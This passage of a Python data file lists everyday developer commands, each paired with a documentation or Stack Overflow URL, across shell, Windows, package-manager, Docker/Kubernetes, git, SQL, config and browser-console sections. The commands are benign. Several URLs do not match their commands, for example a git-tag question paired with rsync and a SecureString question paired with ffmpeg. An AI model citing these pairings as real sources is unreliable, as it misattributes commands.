        MSL + "windows-server/administration/windows-commands/w32tm",
        "w32tm /resync /force && w32tm /query /status",
    ),
    (
        MSL + "windows-server/administration/windows-commands/setx",
        'setx JAVA_HOME "C:\\Program Files\\Eclipse Adoptium\\jdk-21.0.5.11-hotspot"',
    ),
    (
        MSL + "windows-server/administration/windows-commands/mklink",
        "mklink /J C:\\Users\\ana\\OneDrive\\Notes D:\\Notes",
    ),
    (
        MSL + "windows-server/administration/windows-commands/wevtutil",
        'wevtutil qe Security /q:"*[System[(EventID=4625)]]" /c:20 /f:text /rd:true',
    ),
    (MSL + "windows-server/administration/windows-commands/cipher", "cipher /w:C:\\Users\\Public"),
    (SU + "1611200/defrag-ssd-trim", "defrag C: /L /U /V"),
    (MSL + "windows-server/administration/windows-commands/arp", "arp -a | findstr 192.168.1."),
    (
        MSL + "windows/deployment/usmt/usmt-scanstate-syntax",
        "scanstate \\\\server\\migration\\%COMPUTERNAME% /i:migdocs.xml /i:migapp.xml /o /c /v:5 /l:scan.log",
    ),
)

SHELL = (
    (
        SO + "4210042/how-to-exclude-a-directory-in-find-command",
        "find . -path ./node_modules -prune -o -name '*.ts' -print",
    ),
    (SO + "11710552/useful-bash-one-liners", "du -sh -- * .[!.]* 2>/dev/null | sort -h | tail -20"),
    (
        SO + "1529946/linux-copy-and-create-destination-dir-if-it-does-not-exist",
        "mkdir -p build/out && cp -r assets/ build/out/",
    ),
    (
        SO + "13322485/how-to-get-the-primary-ip-address-of-the-local-machine-on-linux",
        "ip -4 addr show scope global | awk '/inet/ {print $2}'",
    ),
    (
        SO
        + "5905054/how-can-i-recursively-find-all-files-in-current-and-subfolders-based-on-wildcard",
        "grep -rnw --include='*.go' -e 'FIXME' -e 'XXX' internal/",
    ),
    (SO + "15034034/ssh-keygen-ed25519", 'ssh-keygen -t ed25519 -C "maria.lopez@work-laptop"'),
    (
        SO + "3510673/find-and-kill-a-process-in-one-line-using-bash-and-regex",
        "pkill -f 'gunicorn app:server'",
    ),
    (SO + "24912510/tar-extract-to-directory", "tar -xzf node-v22.12.0-linux-x64.tar.gz -C /opt/"),
    (
        SO + "5410757/how-to-delete-from-a-text-file-all-lines-that-contain-a-specific-string",
        "sed -n '/^\\[database\\]/,/^\\[/p' config.ini",
    ),
    (
        SO + "7427262/how-to-read-a-file-into-a-variable-in-shell",
        "export $(grep -v '^#' .env | xargs)",
    ),
    (
        SO + "1885525/how-do-i-prompt-a-user-for-confirmation-in-bash-script",
        'read -p "Continue? [y/N] " ans && [[ $ans == [yY] ]] || exit 1',
    ),
    (
        SO + "6287154/bash-loop-over-files",
        'for f in *.png; do convert "$f" -resize 50% "small/${f%.png}.jpg"; done',
    ),
    (
        SO + "17998978/removing-colors-from-output",
        "journalctl -u nginx --since '1 hour ago' --no-pager | tail -50",
    ),
    (
        SO + "9449417/how-do-i-assign-the-output-of-a-command-into-an-array",
        "mapfile -t hosts < <(awk '{print $1}' inventory.txt)",
    ),
    (
        SO + "4651437/how-do-i-set-a-variable-to-the-output-of-a-command-in-bash",
        'latest=$(git describe --tags --abbrev=0) && echo "last release: $latest"',
    ),
    (
        SO + "1404796/how-to-get-the-latest-tag-name-in-current-branch-in-git",
        "rsync -avz --delete --exclude '.git' ./site/ deploy@web01:/var/www/site/",
    ),
    (
        SO + "5762491/how-to-print-color-in-console-using-system-out-println",
        "watch -n 2 'nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv'",
    ),
    (
        SO + "25450352/check-ssl-certificate-expiry",
        "openssl s_client -connect mail.example.org:993 -servername mail.example.org </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer -enddate",
    ),
    (
        SO + "20449543/shell-equality-operators",
        "curl -s -o /dev/null -w '%{http_code}\\n' https://status.example.org/health",
    ),
    (
        SO + "16483119/an-example-of-how-to-use-getopts-in-bash",
        "ls -la ~/.ssh && chmod 600 ~/.ssh/id_ed25519 && chmod 700 ~/.ssh",
    ),
    (
        SO + "11231937/bash-ignoring-error-for-a-particular-command",
        "sudo systemctl reload haproxy && systemctl is-active haproxy",
    ),
    (SO + "3601515/how-to-check-if-a-variable-is-set-in-bash", "lsof -i :5432"),
    (
        SO + "15166488/jq-filter-array",
        "curl -s https://api.github.com/repos/rust-lang/rust/releases | jq -r '.[0].tag_name'",
    ),
    (
        SO + "2150882/how-to-automatically-add-user-account-and-password-with-a-bash-script",
        "sudo useradd -m -s /bin/bash -G sudo deploy && sudo passwd deploy",
    ),
    (
        SO + "1251999/how-can-i-replace-each-newline-n-with-a-space-using-sed",
        "tr '\\n' ' ' < hosts.txt",
    ),
    (SO + "8988824/generating-random-string", "openssl rand -base64 32"),
    (
        SO + "20762575/explanation-of-convertto-securestring",
        "ffmpeg -ss 00:01:30 -i talk.mkv -t 45 -c:v libx265 -crf 28 -an clip.mp4",
    ),
    (
        SO + "1358540/how-to-count-all-the-lines-of-code-in-a-directory-recursively",
        "git ls-files | grep -E '\\.(go|rs)$' | xargs wc -l | tail -1",
    ),
    (SO + "5947742/how-to-change-the-output-color-of-echo-in-linux", "df -hT -x tmpfs -x devtmpfs"),
    (
        SO + "3258243/check-if-pull-needed-in-git",
        "scp -P 2222 backup.tar.gz ops@203.0.113.50:/srv/backups/",
    ),
    (SO + "12942628/tail-follow-multiple-files", "tail -F /var/log/syslog /var/log/auth.log"),
    (
        SO + "4937792/using-variables-inside-a-bash-heredoc",
        'cat <<EOF > /etc/apt/apt.conf.d/99proxy\nAcquire::http::Proxy "http://proxy.corp.local:3128";\nEOF',
    ),
    (SO + "13781216/meaning-of-too-many-open-files", "ulimit -n 65536 && ulimit -a"),
    (
        "https://wiki.archlinux.org/title/Pacman/Tips_and_tricks",
        "pacman -Qdtq | sudo pacman -Rns -",
    ),
    ("https://wiki.archlinux.org/title/Systemd/Journal", "sudo journalctl --vacuum-size=500M"),
    (
        "https://wiki.archlinux.org/title/Network_configuration",
        "nmcli device wifi list && nmcli device wifi connect 'Office-5G' --ask",
    ),
    (
        "https://ss64.com/mac/defaults.html",
        "defaults write com.apple.screencapture location ~/Pictures/Screenshots && killall SystemUIServer",
    ),
    ("https://ss64.com/mac/caffeinate.html", "caffeinate -dimsu -t 3600"),
    (
        "https://support.apple.com/guide/terminal/apdc6c1077b-5d5d-4d35-9c19-60f2397b2369/mac",
        "xcode-select -p && xcrun --show-sdk-version",
    ),
    ("https://ss64.com/mac/pmset.html", "pmset -g batt"),
    (
        "https://ss64.com/mac/mdfind.html",
        "mdfind -onlyin ~/Documents 'kMDItemContentType == \"com.adobe.pdf\"' | head",
    ),
    (
        "https://ss64.com/mac/dscacheutil.html",
        "scutil --dns | grep 'nameserver\\[[0-9]*\\]' | sort -u",
    ),
    ("https://ss64.com/mac/xattr.html", "xattr -l ~/Downloads/report.pdf"),
    ("https://ss64.com/mac/softwareupdate.html", "softwareupdate --list"),
)

PKG = (
    (
        "https://docs.npmjs.com/cli/v10/commands/npm-install",
        "npm install --save-dev eslint@9 prettier typescript-eslint",
    ),
    ("https://pnpm.io/cli/add", "pnpm add -D vitest @vitest/coverage-v8"),
    ("https://yarnpkg.com/cli/add", "yarn add react-router-dom@7"),
    (
        "https://pip.pypa.io/en/stable/user_guide/",
        "python -m pip install --upgrade pip setuptools wheel",
    ),
    (
        "https://pip.pypa.io/en/stable/cli/pip_install/",
        "pip install -r requirements.txt --no-cache-dir",
    ),
    ("https://docs.astral.sh/uv/guides/projects/", "uv add httpx pydantic-settings"),
    ("https://python-poetry.org/docs/cli/#add", "poetry add --group dev pytest-cov"),
    (
        "https://doc.rust-lang.org/cargo/commands/cargo-add.html",
        "cargo add serde --features derive && cargo add serde_json",
    ),
    (
        "https://pkg.go.dev/cmd/go#hdr-Add_dependencies_to_current_module_and_install_them",
        "go get github.com/spf13/cobra@v1.8.1",
    ),
    ("https://formulae.brew.sh/formula/jq", "brew install jq yq gnu-sed coreutils"),
    ("https://formulae.brew.sh/cask/visual-studio-code", "brew install --cask iterm2 rectangle"),
    ("https://docs.brew.sh/FAQ", "brew update && brew upgrade && brew cleanup"),
    ("https://packages.ubuntu.com/noble/htop", "sudo apt update && sudo apt install -y htop"),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/dnf/",
        "sudo dnf install -y @development-tools cmake",
    ),
    (
        "https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper",
        "apk add --no-cache bash curl ca-certificates",
    ),
    (
        "https://winget.run/pkg/Git/Git",
        'winget install -e --id Git.Git --override "/VERYSILENT /NORESTART /COMPONENTS=icons,ext\\reg\\shellhere"',
    ),
    ("https://community.chocolatey.org/packages/7zip", "choco install 7zip -y"),
    ("https://scoop.sh/#/apps?q=ripgrep", "scoop install ripgrep fd bat"),
    (
        "https://www.nuget.org/packages/Newtonsoft.Json",
        "dotnet add package Newtonsoft.Json --version 13.0.3",
    ),
    ("https://rubygems.org/gems/rails", "gem install rails -v 8.0.1"),
    ("https://getcomposer.org/doc/03-cli.md#require-r", "composer require guzzlehttp/guzzle:^7.9"),
    (
        "https://docs.conda.io/projects/conda/en/latest/commands/create.html",
        "conda create -n ml python=3.11 numpy pandas scikit-learn -y",
    ),
    ("https://flathub.org/apps/org.gimp.GIMP", "flatpak install flathub org.gimp.GIMP"),
    ("https://snapcraft.io/install/code/ubuntu", "sudo snap install code --classic"),
    (
        "https://www.powershellgallery.com/packages/PSReadLine",
        "Install-Module -Name PSReadLine -Force -SkipPublisherCheck",
    ),
    ("https://pypi.org/project/black/", "pipx install black"),
    ("https://www.npmjs.com/package/npm-check-updates", "npx npm-check-updates -u && npm install"),
    ("https://github.com/nvm-sh/nvm#usage", "nvm install --lts && nvm alias default 'lts/*'"),
    ("https://rustup.rs/", "rustup update stable && rustup component add clippy rustfmt"),
    ("https://vcpkg.io/en/getting-started", "vcpkg install fmt:x64-windows"),
)

DOCKER_K8S = (
    (
        "https://docs.docker.com/reference/cli/docker/container/run/",
        "docker run -d --name pg -e POSTGRES_PASSWORD=devpass -p 5432:5432 -v pgdata:/var/lib/postgresql/data postgres:17",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker volume ls -qf dangling=true | xargs -r docker volume rm",
    ),
    (
        "https://docs.docker.com/compose/reference/",
        "docker compose -f docker-compose.prod.yml up -d --build",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/logs/",
        "docker logs -f --tail 200 api-worker-1",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/exec/",
        "docker exec -it redis redis-cli INFO memory",
    ),
    (
        "https://docs.docker.com/build/building/multi-platform/",
        "docker buildx build --platform linux/amd64,linux/arm64 -t registry.corp.local/team/api:1.4.2 --push .",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/image/ls/",
        "docker images --filter dangling=true -q | xargs -r docker rmi",
    ),
    (
        "https://hub.docker.com/_/nginx",
        'docker run --rm -p 8080:80 -v "$PWD/html":/usr/share/nginx/html:ro nginx:alpine',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -n shop -l app=checkout -o wide --sort-by=.status.startTime",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_logs/",
        "kubectl logs deploy/checkout -n shop --since=15m -c app",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-pods/",
        "kubectl describe pod checkout-7d9f8c6b5-xk2lp -n shop",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_rollout/",
        "kubectl rollout undo deployment/search -n prod --to-revision=41",
    ),
    (
        "https://kubernetes.io/docs/tasks/access-application-cluster/port-forward-access-application-cluster/",
        "kubectl port-forward -n data statefulset/clickhouse 8123:8123",
    ),
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "kubectl create secret generic db-creds --from-literal=username=app --from-literal=password='S3cure!pass' -n prod",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_top/",
        "kubectl top pods -n data --sort-by=memory",
    ),
    (
        "https://kubernetes.io/docs/tasks/administer-cluster/safely-drain-node/",
        "kubectl drain node-worker-3 --ignore-daemonsets --delete-emptydir-data",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/jsonpath/",
        'kubectl get nodes -o jsonpath=\'{range .items[*]}{.metadata.name}{"\\t"}{.status.nodeInfo.kubeletVersion}{"\\n"}{end}\'',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_config/",
        "kubectl config use-context staging-eu && kubectl config get-contexts",
    ),
    (
        "https://helm.sh/docs/helm/helm_upgrade/",
        "helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress-nginx --create-namespace -f values.yaml",
    ),
    (
        "https://helm.sh/docs/helm/helm_repo_add/",
        "helm repo add bitnami https://charts.bitnami.com/bitnami && helm repo update",
    ),
    (
        "https://argo-cd.readthedocs.io/en/stable/user-guide/commands/argocd_app_sync/",
        "argocd app sync payments --prune",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform plan -var-file=envs/prod.tfvars -out=tfplan",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/state/list",
        "terraform state list | grep aws_security_group",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./dist s3://marketing-site-prod --delete --cache-control max-age=300",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/sts/get-caller-identity.html",
        "aws sts get-caller-identity --profile billing",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/vm",
        "az vm list -d --query \"[?powerState=='VM running'].{name:name, rg:resourceGroup}\" -o table",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/compute/instances/list",
        "gcloud compute instances list --filter='zone:europe-west1-b' --format='table(name,status)'",
    ),
    (
        "https://docs.ansible.com/ansible/latest/cli/ansible-playbook.html",
        "ansible-playbook -i inventory/prod site.yml --limit web --check --diff",
    ),
    ("https://podman.io/docs", "podman run --rm -it registry.fedoraproject.org/fedora:41 bash"),
    (
        "https://docs.docker.com/engine/install/linux-postinstall/",
        'docker context create remote-build --docker "host=ssh://builder@10.0.7.15" && docker context use remote-build',
    ),
)

GIT = (
    (
        "https://git-scm.com/docs/git-rebase",
        "git rebase --onto main feature/base feature/csv-export",
    ),
    ("https://git-scm.com/docs/git-stash", "git stash push -m 'wip: retry logic' -- src/client.py"),
    (
        "https://git-scm.com/docs/git-log",
        "git log --since='2 weeks ago' --author='Priya' --pretty=format:'%h %ad %s' --date=short",
    ),
    ("https://git-scm.com/docs/git-reset", "git commit --amend --no-edit --date=now"),
    ("https://git-scm.com/docs/git-cherry-pick", "git cherry-pick -x 4f2a9c1"),
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start && git bisect bad && git bisect good v2.3.0",
    ),
    (
        "https://git-scm.com/docs/git-remote",
        "git remote set-url origin git@github.com:acme-labs/inventory-service.git",
    ),
    (
        "https://git-scm.com/docs/git-worktree",
        "git worktree add -b fix/login-redirect ../wt-login origin/main",
    ),
    ("https://git-scm.com/docs/git-clean", "git clean -fdx -e .env"),
    (
        "https://git-scm.com/docs/git-config",
        'git config --global user.name "Priya Raman" && git config --global user.email priya.raman@example.org',
    ),
    ("https://git-scm.com/docs/git-config", "git config --global pull.rebase true"),
    (
        "https://git-scm.com/docs/git-tag",
        "git tag -a v1.8.0 -m 'Release 1.8.0' && git push origin v1.8.0",
    ),
    (
        "https://git-scm.com/docs/git-branch",
        "git shortlog -sne --since='2026-01-01' -- services/payments",
    ),
    ("https://git-scm.com/docs/git-diff", "git diff --stat origin/main...HEAD"),
    ("https://git-scm.com/docs/git-blame", "git blame -L 120,160 app/billing/invoice.py"),
    (
        "https://docs.github.com/en/get-started/getting-started-with-git/about-remote-repositories",
        "git clone https://github.com/acme-labs/inventory-service.git && cd inventory-service",
    ),
    ("https://cli.github.com/manual/gh_pr_create", "gh pr create --fill --base main --label bug"),
    ("https://cli.github.com/manual/gh_run_watch", "gh run watch && gh run view --log-failed"),
    ("https://git-scm.com/docs/git-submodule", "git submodule update --init --recursive"),
    ("https://git-scm.com/docs/git-restore", "git restore --staged package-lock.json"),
    ("https://git-scm.com/docs/git-reflog", "git reflog | head -20"),
    ("https://git-lfs.com/", "git lfs install && git lfs track '*.psd'"),
    (
        "https://docs.gitlab.com/user/project/push_options/",
        "git push -o merge_request.create -o merge_request.target=main origin feature/csv-export",
    ),
)

SQL = (
    (
        "https://www.postgresql.org/docs/current/sql-select.html",
        "SELECT sku, SUM(qty) AS units, ROUND(AVG(unit_price), 2) AS avg_price\nFROM order_lines\nWHERE shipped_at BETWEEN '2026-11-01' AND '2026-11-30'\nGROUP BY sku\nHAVING SUM(qty) > 50\nORDER BY units DESC;",
    ),
    (
        "https://www.postgresql.org/docs/current/monitoring-stats.html",
        "SELECT pid, usename, state, now() - query_start AS runtime, left(query, 80)\nFROM pg_stat_activity\nWHERE state <> 'idle'\nORDER BY runtime DESC;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-createindex.html",
        "CREATE INDEX CONCURRENTLY idx_orders_customer_created ON orders (customer_id, created_at DESC);",
    ),
    (
        "https://www.postgresql.org/docs/current/functions-admin.html",
        "SELECT pg_size_pretty(pg_total_relation_size('public.events'));",
    ),
    ("https://dev.mysql.com/doc/refman/8.4/en/show-processlist.html", "SHOW FULL PROCESSLIST;"),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/create-user.html",
        "CREATE USER 'report'@'10.0.%' IDENTIFIED BY 'ChangeMe-2026';\nGRANT SELECT ON analytics.* TO 'report'@'10.0.%';",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/relational-databases/system-dynamic-management-views/sys-dm-exec-requests-transact-sql",
        "SELECT session_id, status, blocking_session_id, wait_type, wait_time, cpu_time\nFROM sys.dm_exec_requests\nWHERE session_id > 50;",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/t-sql/statements/backup-transact-sql",
        "BACKUP DATABASE [Sales] TO DISK = N'D:\\Backup\\Sales_full.bak' WITH COMPRESSION, STATS = 10;",
    ),
    (
        "https://www.sqlite.org/lang_with.html",
        "WITH RECURSIVE cnt(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM cnt WHERE x < 10) SELECT x FROM cnt;",
    ),
    (
        SO + "3800551/select-first-row-in-each-group-by-group",
        "SELECT DISTINCT ON (user_id) user_id, event, created_at\nFROM events\nORDER BY user_id, created_at DESC;",
    ),
    (
        SO + "1262786/mysql-update-query-based-on-select-query",
        "UPDATE products p\nJOIN suppliers s ON s.id = p.supplier_id\nSET p.active = 0\nWHERE s.country = 'XX';",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-explain.html",
        "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM invoices WHERE status = 'overdue' AND due_date < CURRENT_DATE;",
    ),
    (
        "https://clickhouse.com/docs/en/sql-reference/statements/select",
        "SELECT toStartOfHour(ts) AS h, count() FROM http_logs WHERE status >= 500 GROUP BY h ORDER BY h",
    ),
    (
        "https://cloud.google.com/bigquery/docs/reference/standard-sql/query-syntax",
        "SELECT country, APPROX_COUNT_DISTINCT(user_pseudo_id) AS users\nFROM `analytics_123.events_*`\nWHERE _TABLE_SUFFIX BETWEEN '20261101' AND '20261130'\nGROUP BY country ORDER BY users DESC",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-altertable.html",
        "ALTER TABLE accounts ADD COLUMN last_login_at timestamptz;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-vacuum.html",
        "VACUUM (VERBOSE, ANALYZE) public.sessions;",
    ),
    (
        "https://mariadb.com/kb/en/delete/",
        "DELETE FROM audit_log WHERE created_at < NOW() - INTERVAL 180 DAY LIMIT 10000;",
    ),
    (
        "https://docs.snowflake.com/en/sql-reference/sql/copy-into-table",
        "COPY INTO raw.orders FROM @stage/orders/ FILE_FORMAT = (TYPE = PARQUET) MATCH_BY_COLUMN_NAME = CASE_INSENSITIVE;",
    ),
    (
        "https://duckdb.org/docs/data/csv/overview",
        "SELECT * FROM read_csv_auto('exports/2026-11/*.csv') LIMIT 10;",
    ),
    (
        "https://www.postgresql.org/docs/current/sql-grant.html",
        "GRANT USAGE ON SCHEMA reporting TO analyst;\nGRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst;",
    ),
    (
        "https://learn.microsoft.com/en-us/sql/relational-databases/indexes/reorganize-and-rebuild-indexes",
        "ALTER INDEX ALL ON dbo.OrderLines REBUILD WITH (ONLINE = ON);",
    ),
)

CONFIG = (
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -e .[test] && pytest -q",
    ),
    (
        "https://nginx.org/en/docs/http/ngx_http_proxy_module.html",
        "location /api/ {\n    proxy_pass http://127.0.0.1:8000/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_read_timeout 60s;\n}",
    ),
    (
        "https://docs.docker.com/compose/compose-file/",
        'services:\n  web:\n    build: .\n    ports:\n      - "8000:8000"\n    env_file: .env\n    depends_on:\n      - db\n  db:\n    image: postgres:17\n    volumes:\n      - db-data:/var/lib/postgresql/data\nvolumes:\n  db-data:',
    ),
    (
        "https://code.visualstudio.com/docs/getstarted/settings",
        '{\n  "editor.formatOnSave": true,\n  "editor.rulers": [100],\n  "files.trimTrailingWhitespace": true,\n  "[python]": { "editor.defaultFormatter": "charliermarsh.ruff" }\n}',
    ),
    (
        "https://docs.astral.sh/ruff/configuration/",
        '[tool.ruff]\nline-length = 100\ntarget-version = "py311"\n\n[tool.ruff.lint]\nselect = ["E", "F", "I", "UP", "B"]',
    ),
    (
        "https://www.ssh.com/academy/ssh/config",
        "Host bastion\n    HostName 198.51.100.10\n    User ops\n    IdentityFile ~/.ssh/id_ed25519\n\nHost db-*\n    ProxyJump bastion\n    User postgres",
    ),
    (
        "https://git-scm.com/docs/gitignore",
        "# dependencies\nnode_modules/\n.venv/\n# build\ndist/\n*.egg-info/\n# env\n.env\n.env.*\n!.env.example",
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  selector:\n    matchLabels: {app: web}\n  template:\n    metadata:\n      labels: {app: web}\n    spec:\n      containers:\n        - name: web\n          image: ghcr.io/acme/web:2.1.0\n          ports: [{containerPort: 8080}]",
    ),
    (
        "https://docs.docker.com/reference/dockerfile/",
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nUSER 1000\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:server"]',
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/systemd.service.html",
        "[Unit]\nDescription=Metrics exporter\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/local/bin/node_exporter --web.listen-address=:9100\nRestart=on-failure\nUser=nodeexp\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://prettier.io/docs/en/configuration.html",
        '{\n  "semi": false,\n  "singleQuote": true,\n  "trailingComma": "all",\n  "printWidth": 100\n}',
    ),
    (
        "https://www.typescriptlang.org/tsconfig/",
        '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "module": "NodeNext",\n    "strict": true,\n    "outDir": "dist",\n    "skipLibCheck": true\n  },\n  "include": ["src"]\n}',
    ),
    (
        "https://prometheus.io/docs/prometheus/latest/configuration/configuration/",
        "scrape_configs:\n  - job_name: node\n    scrape_interval: 15s\n    static_configs:\n      - targets: ['10.0.4.11:9100', '10.0.4.12:9100']",
    ),
    (
        "https://caddyserver.com/docs/caddyfile",
        "shop.example.org {\n    encode zstd gzip\n    reverse_proxy localhost:3000\n    log {\n        output file /var/log/caddy/shop.log\n    }\n}",
    ),
    (
        "https://editorconfig.org/",
        "root = true\n\n[*]\nindent_style = space\nindent_size = 4\nend_of_line = lf\ninsert_final_newline = true\n\n[*.{yml,yaml}]\nindent_size = 2",
    ),
    (
        "https://docs.gitlab.com/ci/yaml/",
        "stages: [test, deploy]\n\ntest:\n  stage: test\n  image: node:22\n  script:\n    - npm ci\n    - npm test\n\ndeploy:\n  stage: deploy\n  script: ./deploy.sh\n  only: [main]",
    ),
    (
        "https://pre-commit.com/#2-add-a-pre-commit-configuration",
        "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v5.0.0\n    hooks:\n      - id: trailing-whitespace\n      - id: end-of-file-fixer\n      - id: check-yaml",
    ),
    (
        "https://docs.npmjs.com/cli/v10/configuring-npm/package-json#scripts",
        '"scripts": {\n  "dev": "vite",\n  "build": "tsc -b && vite build",\n  "lint": "eslint .",\n  "test": "vitest run"\n}',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/customize-settings/profile-general",
        '{\n    "guid": "{574e775e-4f2a-5b96-ac1e-a2962a402336}",\n    "name": "PowerShell 7",\n    "source": "Windows.Terminal.PowershellCore",\n    "startingDirectory": "%USERPROFILE%\\\\src"\n}',
    ),
    (
        "https://www.openssh.com/manual.html",
        "PermitRootLogin no\nPasswordAuthentication no\nPubkeyAuthentication yes\nAllowGroups sshusers\nMaxAuthTries 3",
    ),
    (
        "https://grafana.com/docs/loki/latest/send-data/promtail/configuration/",
        "server:\n  http_listen_port: 9080\nclients:\n  - url: http://loki:3100/loki/api/v1/push\nscrape_configs:\n  - job_name: system\n    static_configs:\n      - targets: [localhost]\n        labels:\n          job: varlogs\n          __path__: /var/log/*.log",
    ),
    (
        "https://docs.pydantic.dev/latest/concepts/pydantic_settings/",
        "DATABASE_URL=postgresql://app:app@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nLOG_LEVEL=info\nSENTRY_DSN=",
    ),
    (
        "https://www.postgresql.org/docs/current/auth-pg-hba-conf.html",
        "# TYPE  DATABASE  USER  ADDRESS        METHOD\nhost    all       all   10.0.0.0/16    scram-sha-256\nlocal   all       postgres            peer",
    ),
    (
        "https://docs.renovatebot.com/configuration-options/",
        '{\n  "extends": ["config:recommended"],\n  "schedule": ["before 6am on monday"],\n  "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }]\n}',
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/extensions/configuration-providers",
        '{\n  "Logging": { "LogLevel": { "Default": "Information", "Microsoft.AspNetCore": "Warning" } },\n  "ConnectionStrings": { "Default": "Server=sql01;Database=Shop;Trusted_Connection=True;" }\n}',
    ),
)

CONSOLE_JS = (
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.clear(); location.reload()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "[...document.querySelectorAll('a[target=_blank]:not([rel~=noopener])')].map(a => a.href)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/console/table",
        "console.table([...document.images].map(i => ({src: i.src, w: i.naturalWidth, alt: i.alt})))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "await (await fetch('/api/v2/projects?limit=5')).json()",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify([...document.querySelectorAll('table tr')].map(r => [...r.cells].map(c => c.innerText))))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#monitorEvents-function",
        "monitorEvents(document.querySelector('form#signup'), ['submit', 'invalid'])",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('navigation')[0].domContentLoadedEventEnd - performance.timeOrigin",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.body.contentEditable = true",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.memoizedProps.items.length"),
    (
        SO + "9083091/how-to-clear-all-cookies-with-javascript",
        "document.cookie.split(';').forEach(c => document.cookie = c.replace(/=.*/, '=;expires=' + new Date(0).toUTCString() + ';path=/'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
        "caches.keys().then(k => console.log('cache buckets:', k))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/getItem",
        "JSON.parse(localStorage.getItem('featureFlags'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Element/scrollIntoView",
        "document.querySelector('#comments').scrollIntoView({behavior: 'smooth'})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/CSS/outline",
        "[...document.querySelectorAll('img:not([alt])')].forEach(el => el.style.border = '3px dashed orange')",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#getEventListeners-function",
        "getEventListeners(window)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.NumberFormat('ja-JP', {style: 'currency', currency: 'JPY'}).format(1234567)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Crypto/randomUUID",
        "Array.from(crypto.getRandomValues(new Uint8Array(16)), b => b.toString(16).padStart(2, '0')).join('')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/matchMedia",
        "window.matchMedia('(prefers-reduced-motion: reduce)').matches",
    ),
    (
        "https://vuejs.org/guide/scaling-up/tooling.html#browser-devtools",
        "document.querySelectorAll('[data-testid]').forEach(e => console.log(e.dataset.testid))",
    ),
    ("https://angular.dev/tools/devtools", "ng.applyChanges(ng.getComponent($0))"),
    (
